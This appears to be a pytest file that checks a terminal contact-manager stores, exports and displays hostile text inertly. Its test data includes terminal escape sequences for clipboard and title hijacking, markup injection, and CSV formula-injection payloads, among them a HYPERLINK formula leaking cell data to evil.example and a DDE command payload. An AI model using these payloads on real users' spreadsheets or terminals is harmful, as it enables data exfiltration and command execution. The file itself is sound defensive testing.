"""Hostile text in names, notes and tags is data: stored and exported byte for byte, shown
literally in every widget, and never sent to the terminal as a control sequence.

The last two are checked on what is really drawn: the widgets' rendered text (Pilot), and the
bytes the real app and the command line write to a pseudo-terminal.
"""

from __future__ import annotations

import json
import os
import sqlite3
import subprocess
import time

import pytest

from netmaint_tui.cli import main
from tests.reliability import hostile as H
from tests.reliability.helpers import PYTHON, TIMEOUT, read_for

SIZE = (120, 40)


def build(path, big: bool = True) -> dict:
    """The hostile network in `path`, through the services; returns what was typed."""
    from netmaint_tui.rules.notes import extract_tasks
    from netmaint_tui.services.contacts import add_contact
    from netmaint_tui.services.followups import add_follow_up
    from netmaint_tui.services.touches import log_touch
    from netmaint_tui.store.db import close_database, open_database
    from tests.reliability.writer import context

    open_database(path)
    try:
        ctx = context()
        eve = add_contact(ctx, H.NAME, company=H.COMPANY, role=H.ROLE, tags=H.TAGS, emails=[H.EMAIL],
                          notes=H.NOTES, tier="A", how_met=H.ZWJ)
        plain = add_contact(ctx, "Plain Person", tier="C")
        log_touch(ctx, [eve, plain], note=H.TOUCH_NOTE, minutes=30)
        add_follow_up(ctx, f"{H.OSC_8} ask about {H.MARKUP}", suggested_by=eve)
        big_note = H.big_note() if big else ""
        if big:
            log_touch(ctx, [plain], note=big_note, channel="email")
        (task,) = extract_tasks(H.TOUCH_NOTE, ctx.now())
        return {"eve": eve, "plain": plain, "big_note": big_note, "task": task.what}
    finally:
        close_database()


def dump(path) -> dict:
    """Every piece of user text in the file, as stored (text compared as bytes)."""
    conn = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
    conn.text_factory = bytes
    try:
        return {
            "contacts": conn.execute(
                "SELECT name, company, role, emails, notes, how_met FROM contact ORDER BY name").fetchall(),
            "tags": sorted(conn.execute(
                "SELECT c.name, t.name FROM contact_tag ct JOIN contact c ON c.id = ct.contact_id "
                "JOIN tag t ON t.id = ct.tag_id").fetchall()),
            "touches": sorted(conn.execute("SELECT note, channel, minutes FROM touch").fetchall()),
            "follow_ups": sorted(conn.execute("SELECT what FROM follow_up").fetchall()),
        }
    finally:
        conn.close()


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory):
    path = tmp_path_factory.mktemp("hostile") / "netmaint.db"
    typed = build(path)
    return path, typed


@pytest.fixture(scope="module")
def hostile_small_db(tmp_path_factory):
    """The same without the 1 MB note (PyYAML takes seconds over a megabyte)."""
    path = tmp_path_factory.mktemp("hostile-small") / "netmaint.db"
    return path, build(path, big=False)


def test_hostile_text_is_stored_byte_for_byte(hostile_db):
    path, typed = hostile_db
    stored = dump(path)
    eve = next(c for c in stored["contacts"] if c[0] == H.NAME.encode())
    assert eve == (H.NAME.encode(), H.COMPANY.encode(), H.ROLE.encode(),
                   json.dumps([H.EMAIL], ensure_ascii=False).encode(), H.NOTES.encode(), H.ZWJ.encode())
    assert sorted(t for n, t in stored["tags"] if n == H.NAME.encode()) == sorted(t.encode() for t in H.TAGS)
    notes = [t[0] for t in stored["touches"]]
    assert H.TOUCH_NOTE.encode() in notes and typed["big_note"].encode() in notes
    assert (typed["task"].encode(),) in stored["follow_ups"]
    assert "[@click=app.quit]" in typed["task"] and H.OSC_52 in typed["task"]  # the task line is kept as typed


@pytest.mark.parametrize("fmt", ["json", "yaml"])
def test_an_export_imported_into_a_new_database_gives_the_same_bytes(hostile_db, hostile_small_db, tmp_path,
                                                                      capsys, cli, fmt):
    path, _ = hostile_db if fmt == "json" else hostile_small_db
    first = tmp_path / f"first.{fmt}"
    assert main(["export", fmt, "--db", str(path), "-o", str(first)]) == 0
    fresh = tmp_path / "fresh.db"
    assert main(["import", "json", str(first), "--db", str(fresh)]) == 0
    capsys.readouterr()
    assert dump(fresh) == dump(path)
    second = tmp_path / f"second.{fmt}"
    assert main(["export", fmt, "--db", str(fresh), "-o", str(second)]) == 0
    assert second.read_bytes() == first.read_bytes()
    # The file itself is safe to `cat`: no raw control character (JSON and YAML escape them).
    text = first.read_text(encoding="utf-8")
    for label, payload in H.FORBIDDEN.items():
        assert payload not in text, label
    assert "\x1b" not in text


def test_csv_export_keeps_the_text_and_neutralizes_formulas(tmp_path, capsys, cli):
    from netmaint_tui.services.contacts import add_contact
    from netmaint_tui.store.db import close_database, open_database
    from tests.reliability.writer import context

    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1-555-0100", "-2+3", "@SUM(A1:A9)",
                "\t=1+1", "\r=1+1", " =cmd|' /C calc'!A0"]
    open_database(cli.db)
    ctx = context()
    for i, cell in enumerate(formulas):
        add_contact(ctx, cell if i else H.NAME, company=cell, notes=cell + H.NOTES, tags=[cell])
    close_database()
    target = tmp_path / "contacts.csv"
    assert main(["export", "csv", "-o", str(target)]) == 0
    import csv

    with open(target, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(formulas)
    for row in rows:
        for column, cell in row.items():
            if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")):
                pytest.fail(f"{column} would run as a formula: {cell!r}")
    by_notes = {row["notes"]: row for row in rows}
    for cell in formulas:
        # Neutralized, otherwise exact: notes as typed, a company trimmed as every one-line field is.
        assert by_notes["'" + cell + H.NOTES]["company"] == "'" + cell.strip()
    assert H.NAME in {row["name"] for row in rows}


# --- shown literally in every widget -------------------------------------------------------------

CONTROLS = __import__("re").compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
MALLORY = f"[red]Mallory[/red] {H.C1_OSC} {H.OSC_52}"


def screen_text(app) -> str:
    """Everything drawn on the screen right now, as text."""
    return "\n".join(strip.text for strip in app.screen._compositor.render_strips())


def assert_inert(app, where: str) -> str:
    text = screen_text(app)
    found = CONTROLS.search(text)
    assert found is None, f"{where}: raw {found.group(0)!r} drawn: {text[max(0, found.start() - 40):found.end() + 40]!r}"
    return text


def toast_texts(app) -> list[str]:
    from textual.widgets._toast import Toast

    return [str(toast.render().plain) for toast in app.screen.query(Toast)]


def drive_with_toasts(app, scenario):
    """tests.ui.conftest.drive, with notifications drawn (run_test leaves them out by default)."""
    import asyncio

    from tests.ui.conftest import settle

    async def go():
        async with app.run_test(size=SIZE, notifications=True) as pilot:
            await settle(app, pilot)
            return await scenario(app, pilot)

    try:
        return asyncio.run(go())
    finally:
        from netmaint_tui.store.db import close_database

        close_database()


@pytest.fixture
def hostile_app_db(cli):
    from netmaint_tui.services.contacts import add_contact
    from netmaint_tui.services.habit import set_goal
    from netmaint_tui.store.db import close_database, open_database
    from tests.reliability.writer import context

    typed = build(cli.db)
    open_database(cli.db)
    ctx = context()
    add_contact(ctx, MALLORY, tier="A", company=H.MARKUP)
    set_goal(ctx, 5, None)
    close_database()
    return cli.db, typed


def test_every_widget_shows_hostile_text_literally(hostile_app_db, monkeypatch):
    from textual.command import CommandPalette
    from textual.widgets import Input, TextArea

    from netmaint_tui.ui.widgets.contact_detail import ContactDetail
    from tests.ui.conftest import new_app, settle, static_text

    monkeypatch.setattr(ContactDetail, "RELAYOUT_AFTER", 0.001)  # a new width is laid out at once

    path, typed = hostile_app_db

    def lines_of(text: str) -> list[str]:
        return [line for line in H.shown(text, single_line=False).split("\n") if line.strip()]

    async def scenario(app, pilot):
        # The list, the detail and the week pane.
        text = assert_inert(app, "main screen")
        assert "[bold]Eve[/]" in text and "[red]Mallory[/red]" in text
        app.goto_contact(typed["eve"])
        await settle(app, pilot)
        assert app.screen.query_one("ContactDetail")._border_title.plain == H.shown(H.NAME)
        # The detail lays values and notes out to the pane's width (a long one goes on under
        # itself): on a terminal wide enough for every line, each is there as typed.
        await pilot.resize_terminal(400, SIZE[1])
        detail = app.screen.query_one(ContactDetail)
        for _ in range(20):
            if detail._relayout is None:
                break
            await pilot.pause()
        fields = static_text(app, "#detail-fields")
        for value in (H.COMPANY, H.ROLE, H.EMAIL, H.ZWJ, *H.TAGS):
            assert H.shown(value) in fields, value
        for line in lines_of(H.NOTES):
            assert line in fields, line
        history = static_text(app, "#detail-history")
        for line in lines_of(H.TOUCH_NOTE):
            assert f"\n  {line}" in history, line
        follow_ups = static_text(app, "#detail-follow-ups")
        assert H.shown(typed["task"]) in follow_ups
        assert H.shown(f"{H.OSC_8} ask about {H.MARKUP}") in follow_ups
        assert H.shown(MALLORY) in static_text(app, "#week-next")  # "4 more: …" names who would meet the goal
        await pilot.resize_terminal(*SIZE)
        await settle(app, pilot)
        assert_inert(app, "detail")

        # A 1 MB note: its start is drawn, and the pane says the rest is kept (laying out a
        # megabyte would freeze the screen for seconds each time the contact is selected).
        app.goto_contact(typed["plain"])
        await settle(app, pilot)
        history = static_text(app, "#detail-history")
        first_line = H.shown(typed["big_note"][:2000], single_line=False).split("\n")[0]
        assert "".join(first_line.split()) in "".join(history.split())
        assert f"{len(typed['big_note']) - 20_000:,} more characters, kept in full" in history
        assert_inert(app, "big note")
        app.goto_contact(typed["eve"])
        await settle(app, pilot)

        # The log form: its title names the contact; the notification lists the new follow-up.
        await pilot.press("l")
        await settle(app, pilot)
        assert H.shown(H.NAME) in app.screen.query_one("#form")._border_title.plain
        assert_inert(app, "log form")
        app.screen.query_one("#t-note", TextArea).text = f"{H.MARKUP}\n- [ ] {H.FOLLOW_UP_LINE}"
        await pilot.press("ctrl+s")
        await settle(app, pilot)
        assert app.screen is app.main
        assert any(H.shown(typed["task"]) in t for t in toast_texts(app)), toast_texts(app)
        assert_inert(app, "notification")

        # The edit form holds the values as typed, and draws them inert.
        await pilot.press("e")
        await settle(app, pilot)
        assert app.screen.query_one("#f-name", Input).value == H.NAME
        assert app.screen.query_one("#f-notes", TextArea).text == H.NOTES
        assert H.shown(H.NAME) in app.screen.query_one("#form")._border_title.plain
        assert_inert(app, "edit form")
        await pilot.press("escape")
        await settle(app, pilot)

        # The snooze dialog and the archive notification.
        await pilot.press("s")
        await settle(app, pilot)
        assert H.shown(H.NAME) in assert_inert(app, "snooze dialog")
        await pilot.press("escape")
        await settle(app, pilot)
        await pilot.press("A")
        await settle(app, pilot)
        assert any(H.shown(H.NAME) in t for t in toast_texts(app)), toast_texts(app)
        assert_inert(app, "archive notification")
        await pilot.press("u")
        await settle(app, pilot)

        # The palette's "go to contact" hits.
        await pilot.press("ctrl+p")
        await settle(app, pilot)
        assert isinstance(app.screen, CommandPalette)
        await pilot.press(*"Eve")
        for _ in range(20):
            await pilot.pause(0.05)
            if "[bold]Eve[/]" in screen_text(app):
                break
        assert "[bold]Eve[/]" in assert_inert(app, "palette")
        await pilot.press("escape")
        await settle(app, pilot)
        await pilot.press("ctrl+p")
        await settle(app, pilot)
        await pilot.press(*"Mallory")
        for _ in range(20):
            await pilot.pause(0.05)
            if "[red]Mallory[/red]" in screen_text(app):
                break
        assert "[red]Mallory[/red]" in assert_inert(app, "palette")
        await pilot.press("escape")
        await settle(app, pilot)
        return app.is_running

    assert drive_with_toasts(new_app(path), scenario) is True


# --- nothing reaches the terminal as a control sequence ------------------------------------------


def assert_nothing_hostile_reaches_the_terminal(out: bytes, where: str) -> str:
    text = out.decode("utf-8", errors="surrogateescape")
    for label, payload in H.FORBIDDEN.items():
        at = text.find(payload)
        assert at < 0, f"{where}: {label} reached the terminal: {text[max(0, at - 60):at + 60]!r}"
    return text


@pytest.mark.slow
def test_the_app_on_a_real_terminal_writes_no_hostile_sequence(hostile_db, cli):
    from tests.reliability.helpers import run_in_pty

    path, _ = hostile_db
    env = {**cli.env, "NETMAINT_DB": str(path), "TERM": "xterm-256color"}
    # Eve is selected at start: edit her (the form holds her raw name), snooze her, then walk about.
    # After Esc, wait for the detail pane under the form to be drawn again ("… suggested, 0 done"
    # is only there): an `s` read together with the Esc is Alt+s, which a busy machine can make.
    keys = [(b"e", "Edit [bold]Eve[/]".encode()), (b"\x1b", b"suggested, "), (b"s", "Snooze [bold]Eve[/]".encode()), b"\x1b",
            b"j", b"\r", b"k", (b"?", b"Keys"), b"\x1b", b"\x10", b"E", b"v", b"e", b"\x1b", b"q"]
    out, status = run_in_pty([], env, keys=keys, ready="[bold]Eve[/]".encode(), key_wait=0.25)
    assert status == 0, out[-2000:]
    text = assert_nothing_hostile_reaches_the_terminal(out, "app")
    # The placeholders are what the user sees instead.
    for shown in ("[bold]Eve[/]", "␛]0;pwned-title␇", "[@click=app.quit]", "␛]52;c;" + H.CLIPBOARD,
                  "Edit [bold]Eve[/]", "Snooze [bold]Eve[/]"):
        assert shown in text, shown


@pytest.mark.slow
def test_the_command_line_on_a_real_terminal_writes_no_hostile_sequence(hostile_small_db, cli):
    from tests.reliability.helpers import run_in_pty

    path, _ = hostile_small_db
    env = {**cli.env, "NETMAINT_DB": str(path), "TERM": "xterm-256color"}
    runs = [
        (["due"], 0), (["follow-up", "list"], 0), (["export", "json"], 0), (["export", "yaml"], 0),
        (["export", "csv"], 0), (["log", "[bold]Ev\x1b]0;pwned"], 2), (["add", H.NAME.replace("\x00", "")], 0),
    ]
    for argv, expected in runs:
        out, status = run_in_pty(argv, env)
        assert status == expected, (argv, out[-1000:])
        text = assert_nothing_hostile_reaches_the_terminal(out, " ".join(argv))
        assert "Traceback" not in text
        if argv[0] in ("due", "follow-up", "export"):
            assert "[bold]Eve[/]" in text or "[@click=app.quit]" in text, argv
